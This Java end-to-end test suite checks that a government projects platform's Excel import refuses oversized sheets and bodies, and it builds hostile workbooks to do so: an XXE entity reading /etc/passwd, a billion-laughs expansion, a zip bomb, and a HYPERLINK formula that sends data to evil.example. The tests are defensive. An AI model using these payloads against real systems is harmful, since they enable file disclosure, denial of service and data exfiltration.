package cn.gov.jx.majorprojects.e2e;

import static cn.gov.jx.majorprojects.e2e.Platform.GATEWAY;
import static cn.gov.jx.majorprojects.e2e.Platform.get;
import static cn.gov.jx.majorprojects.e2e.Platform.json;
import static cn.gov.jx.majorprojects.e2e.Platform.send;
import static cn.gov.jx.majorprojects.e2e.Platform.token;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.UUID;
import java.util.concurrent.ThreadLocalRandom;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.streaming.SXSSFWorkbook;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/**
 * OWASP API4 for the one upload that may be large, {@code POST /api/projects/import}, on the real
 * platform through the gateway: a sheet one row over the 10 000-row limit, a body one byte over the
 * gateway's 10 MB, a zip bomb, external entities and formula cells. Each is a 4xx problem that says
 * what is wrong, and the project list read back afterwards holds none of the file's rows; a sheet
 * of the same shape without the hostile part imports, so the refusal is about that part.
 */
class ExcelImportE2ETests {

  static final String IMPORT = "/api/projects/import";
  static final int MAX_ROWS = 10_000;
  static final int GATEWAY_LIMIT = 10 * 1024 * 1024;

  /** The project sheet's headers, in the order of {@link #row}. */
  static final String[] HEADERS = {
    "项目代码", "项目名称", "项目级别", "所在区县代码", "行业", "业主单位代码", "业主单位名称", "总投资（万元）", "计划开工日期", "计划竣工日期",
    "项目状态", "项目简介"
  };

  /** A tag in every name of one file: the list's {@code q} finds what a file stored. */
  static String tag() {
    return "imp" + UUID.randomUUID().toString().substring(0, 8);
  }

  /** A valid Honggutan row; {@code serial} makes the code unique within a run. */
  static String[] row(String tag, String prefix, int serial) {
    return new String[] {
      "%s-360113-48-01-%06d".formatted(prefix, serial),
      "导入上限" + tag + "-" + serial,
      "CITY",
      "360113",
      "ENERGY",
      "org-nc-metro",
      "南昌轨道交通集团",
      "1200.5",
      "2031-03-01",
      "2033-06-30",
      "PLANNED",
      "光伏电站及配套储能工程，一期"
    };
  }

  /** A random year-like code prefix, so that reruns on the same platform never collide. */
  static String prefix() {
    return String.valueOf(ThreadLocalRandom.current().nextInt(3000, 9999));
  }

  /** {@code rows} valid rows, written by POI's streaming writer (a window of 100 rows). */
  static byte[] sheet(String tag, int rows) throws Exception {
    String prefix = prefix();
    try (SXSSFWorkbook book = new SXSSFWorkbook(100);
        ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      Sheet sheet = book.createSheet("重点项目");
      Row header = sheet.createRow(0);
      for (int c = 0; c < HEADERS.length; c++) {
        header.createCell(c).setCellValue(HEADERS[c]);
      }
      for (int r = 1; r <= rows; r++) {
        Row row = sheet.createRow(r);
        String[] values = row(tag, prefix, r);
        for (int c = 0; c < values.length; c++) {
          if (c == 7) {
            row.createCell(c).setCellValue(Double.parseDouble(values[c]));
          } else {
            row.createCell(c).setCellValue(values[c]);
          }
        }
      }
      book.write(out);
      book.dispose();
      return out.toByteArray();
    }
  }

  /** A multipart body of one {@code file} part, as a browser sends it. */
  static byte[] multipart(String boundary, byte[] file) {
    ByteArrayOutputStream body = new ByteArrayOutputStream();
    body.writeBytes(
        ("--"
                + boundary
                + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"projects.xlsx\""
                + "\r\nContent-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
                + "\r\n\r\n")
            .getBytes(StandardCharsets.UTF_8));
    body.writeBytes(file);
    body.writeBytes(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
    return body.toByteArray();
  }

  static HttpResponse<String> upload(byte[] file) {
    String boundary = "----e2e" + UUID.randomUUID();
    return post(boundary, HttpRequest.BodyPublishers.ofByteArray(multipart(boundary, file)));
  }

  static HttpResponse<String> post(String boundary, HttpRequest.BodyPublisher body) {
    return send(
        HttpRequest.newBuilder(URI.create(GATEWAY + IMPORT))
            .timeout(Duration.ofSeconds(120))
            .header("Authorization", "Bearer " + token("admin"))
            .header("Content-Type", "multipart/form-data; boundary=" + boundary)
            .POST(body)
            .build());
  }

  /** How many projects the list holds, all of them or those whose name or code has {@code q}. */
  static long projects(String q) {
    HttpResponse<String> page =
        get("/api/projects?size=1" + (q == null ? "" : "&q=" + q), token("admin"));
    assertThat(page.statusCode()).as(page.body()).isEqualTo(200);
    return json(page).get("totalElements").asLong();
  }

  static JsonNode problem(HttpResponse<String> response, int status) {
    assertThat(response.statusCode()).as(response.body()).isEqualTo(status);
    assertThat(response.headers().firstValue("Content-Type"))
        .hasValueSatisfying(v -> assertThat(v).startsWith("application/problem+json"));
    JsonNode problem = json(response);
    assertThat(problem.get("status").asInt()).isEqualTo(status);
    assertThat(response.body())
        .doesNotContainIgnoringCase("exception")
        .doesNotContain("org.apache")
        .doesNotContain("java.");
    return problem;
  }

  static void imported(HttpResponse<String> response, int rows) {
    assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
    assertThat(json(response).get("imported").asInt()).isEqualTo(rows);
  }

  // ---- row count
  // ---------------------------------------------------------------------------------

  @Test
  void aSheetOfOneRowOverTheLimitIs400NamingTheLimitAndStoresNothing() throws Exception {
    String tag = tag();
    long before = projects(null);
    long started = System.nanoTime();
    byte[] file = sheet(tag, MAX_ROWS + 1);
    System.out.printf(
        "a sheet of %d rows: %d bytes, written in %d ms%n",
        MAX_ROWS + 1, file.length, (System.nanoTime() - started) / 1_000_000);

    started = System.nanoTime();
    HttpResponse<String> refused = upload(file);
    System.out.printf(
        "its import answered %d in %d ms%n",
        refused.statusCode(), (System.nanoTime() - started) / 1_000_000);

    JsonNode problem = problem(refused, 400);
    assertThat(problem.get("errors").toString()).contains("\"file\"");
    assertThat(problem.get("errors").get(0).get("field").asString()).isEqualTo("file");
    assertThat(problem.get("errors").get(0).get("message").asString())
        .isEqualTo("at most " + MAX_ROWS + " rows per import");
    assertThat(projects(tag)).isZero();
    assertThat(projects(null)).isEqualTo(before);

    // the same shape with one row imports: the refusal was the count
    String control = tag();
    imported(upload(sheet(control, 1)), 1);
    assertThat(projects(control)).isEqualTo(1);
  }

  // ---- body size at the gateway
  // ------------------------------------------------------------------

  @Test
  void aBodyOneByteOverTenMegabytesIs413AtTheGatewayAndOneAtTheLimitReachesTheService() {
    long before = projects(null);
    String boundary = "----e2e" + UUID.randomUUID();
    byte[] noise = new byte[GATEWAY_LIMIT];
    ThreadLocalRandom.current().nextBytes(noise);
    int overhead = multipart(boundary, new byte[0]).length;

    byte[] over = multipart(boundary, java.util.Arrays.copyOf(noise, GATEWAY_LIMIT - overhead + 1));
    assertThat(over.length).isEqualTo(GATEWAY_LIMIT + 1);
    JsonNode declared = problem(post(boundary, HttpRequest.BodyPublishers.ofByteArray(over)), 413);
    assertThat(declared.get("detail").asString()).contains("10 MB");
    // chunked, without a Content-Length: counted while it streams
    JsonNode chunked =
        problem(
            post(
                boundary,
                HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(over))),
            413);
    assertThat(chunked.get("detail").asString()).contains("10 MB");

    // at the limit the gateway forwards it, and project-service reads it as the file it is
    byte[] at = multipart(boundary, java.util.Arrays.copyOf(noise, GATEWAY_LIMIT - overhead));
    assertThat(at.length).isEqualTo(GATEWAY_LIMIT);
    JsonNode notAWorkbook =
        problem(post(boundary, HttpRequest.BodyPublishers.ofByteArray(at)), 400);
    assertThat(notAWorkbook.get("errors").get(0).get("field").asString()).isEqualTo("file");
    assertThat(notAWorkbook.get("errors").get(0).get("message").asString())
        .isEqualTo("is not a readable .xlsx workbook");
    assertThat(projects(null)).isEqualTo(before);
  }

  // ---- hostile workbooks
  // -------------------------------------------------------------------------

  /** A cell of an inline string, escaped for XML. */
  static String text(String ref, String value) {
    return "<c r=\"%s\" t=\"inlineStr\"><is><t>%s</t></is></c>"
        .formatted(ref, value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"));
  }

  static final String SHEET_END = "</sheetData></worksheet>";

  /**
   * The first sheet's XML up to its data: the header row and one data row, whose name cell is
   * {@code nameCell} (raw XML, so it may use an entity); {@code doctype} goes before the root.
   */
  static String sheetStart(String doctype, String[] values, String nameCell) {
    StringBuilder xml =
        new StringBuilder("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n");
    xml.append(doctype)
        .append(
            "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
                + "<sheetData><row r=\"1\">");
    for (int c = 0; c < HEADERS.length; c++) {
      xml.append(text((char) ('A' + c) + "1", HEADERS[c]));
    }
    xml.append("</row><row r=\"2\">");
    for (int c = 0; c < values.length; c++) {
      String ref = (char) ('A' + c) + "2";
      if (c == 1) {
        xml.append(nameCell);
      } else if (c == 7) {
        xml.append("<c r=\"%s\"><v>%s</v></c>".formatted(ref, values[c]));
      } else {
        xml.append(text(ref, values[c]));
      }
    }
    return xml.append("</row>").toString();
  }

  /** A real workbook (POI's) whose first sheet's XML is replaced by {@code sheetXml}. */
  static byte[] withSheetXml(byte[] sheetXml) throws Exception {
    ByteArrayOutputStream plain = new ByteArrayOutputStream();
    try (XSSFWorkbook book = new XSSFWorkbook()) {
      book.createSheet("重点项目").createRow(0).createCell(0).setCellValue("x");
      book.write(plain);
    }
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(plain.toByteArray()));
        ZipOutputStream zip = new ZipOutputStream(out)) {
      for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
        zip.putNextEntry(new ZipEntry(e.getName()));
        zip.write(e.getName().equals("xl/worksheets/sheet1.xml") ? sheetXml : in.readAllBytes());
        zip.closeEntry();
      }
    }
    return out.toByteArray();
  }

  static byte[] handWritten(String doctype, String[] values, String nameCell) throws Exception {
    return withSheetXml(
        (sheetStart(doctype, values, nameCell) + SHEET_END).getBytes(StandardCharsets.UTF_8));
  }

  static void refusedAsNotReadable(HttpResponse<String> response) {
    JsonNode problem = problem(response, 400);
    assertThat(problem.get("errors")).hasSize(1);
    assertThat(problem.get("errors").get(0).get("field").asString()).isEqualTo("file");
    assertThat(problem.get("errors").get(0).get("message").asString())
        .isEqualTo("is not a readable .xlsx workbook");
  }

  @Test
  void externalEntitiesAndEntityExpansionAreRefusedAndNothingIsRead() throws Exception {
    String tag = tag();
    String prefix = prefix();
    long before = projects(null);

    HttpResponse<String> xxe =
        upload(
            handWritten(
                "<!DOCTYPE worksheet [<!ENTITY secret SYSTEM \"file:///etc/passwd\">]>\n",
                row(tag, prefix, 1),
                "<c r=\"B2\" t=\"inlineStr\"><is><t>" + tag + "&secret;</t></is></c>"));
    refusedAsNotReadable(xxe);
    assertThat(xxe.body()).doesNotContain("root:");

    String laughs =
        "<!DOCTYPE worksheet [<!ENTITY a \"哈哈哈哈哈哈哈哈哈哈\">"
            + "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
            + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">"
            + "<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
            + "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">"
            + "<!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">"
            + "<!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">]>\n";
    refusedAsNotReadable(
        upload(
            handWritten(
                laughs,
                row(tag, prefix, 2),
                "<c r=\"B2\" t=\"inlineStr\"><is><t>" + tag + "&g;</t></is></c>")));

    assertThat(projects(tag)).isZero();
    assertThat(projects(null)).isEqualTo(before);

    // the same hand-written sheet without a DOCTYPE imports: the refusal was the entity
    imported(upload(handWritten("", row(tag, prefix, 3), text("B2", "实体对照" + tag))), 1);
    assertThat(projects(tag)).isEqualTo(1);
  }

  @Test
  void aZipBombIsRefusedQuicklyAndTheServiceKeepsAnswering() throws Exception {
    String tag = tag();
    String prefix = prefix();
    long before = projects(null);
    // 60 MB of one repeated row compresses about a thousandfold: a file well under 1 MB
    String[] values = row(tag, prefix, 1);
    ByteArrayOutputStream xml = new ByteArrayOutputStream();
    xml.writeBytes(sheetStart("", values, text("B2", values[1])).getBytes(StandardCharsets.UTF_8));
    byte[] row =
        "<row><c t=\"inlineStr\"><is><t>boom</t></is></c></row>".getBytes(StandardCharsets.UTF_8);
    while (xml.size() < 60_000_000) {
      xml.writeBytes(row);
    }
    xml.writeBytes(SHEET_END.getBytes(StandardCharsets.UTF_8));
    byte[] file = withSheetXml(xml.toByteArray());
    System.out.printf("zip bomb: %d bytes, 60 MB inflated%n", file.length);
    assertThat(file.length).isLessThan(GATEWAY_LIMIT);

    long started = System.nanoTime();
    refusedAsNotReadable(upload(file));
    assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(30));
    assertThat(projects(tag)).isZero();
    assertThat(projects(null)).isEqualTo(before);
  }

  @Test
  void aFormulaCellIsRefusedNamingItsCellAndIsNeverStoredOrEvaluated() throws Exception {
    String tag = tag();
    String prefix = prefix();
    long before = projects(null);
    byte[] file;
    try (XSSFWorkbook book = new XSSFWorkbook();
        ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      Sheet sheet = book.createSheet("重点项目");
      Row header = sheet.createRow(0);
      for (int c = 0; c < HEADERS.length; c++) {
        header.createCell(c).setCellValue(HEADERS[c]);
      }
      Row row = sheet.createRow(1);
      String[] values = row(tag, prefix, 1);
      for (int c = 0; c < values.length; c++) {
        if (c == 7) {
          row.createCell(c).setCellValue(Double.parseDouble(values[c]));
        } else {
          row.createCell(c).setCellValue(values[c]);
        }
      }
      // a link that would send the row's code out once someone opens the exported register;
      // its cached result is what Excel shows, so the name looks harmless in the file
      XSSFCell name = (XSSFCell) row.getCell(1);
      name.setCellFormula("HYPERLINK(\"http://evil.example/?\"&A2,\"" + values[1] + "\")");
      name.setCellValue(values[1]);
      book.write(out);
      file = out.toByteArray();
    }

    JsonNode problem = problem(upload(file), 400);
    assertThat(problem.get("errors")).hasSize(1);
    assertThat(problem.get("errors").get(0).get("field").asString()).isEqualTo("row 2: name");
    assertThat(problem.get("errors").get(0).get("message").asString()).contains("formula");
    assertThat(projects(tag)).isZero();
    assertThat(projects("evil.example")).isZero();
    assertThat(projects(null)).isEqualTo(before);
  }
}
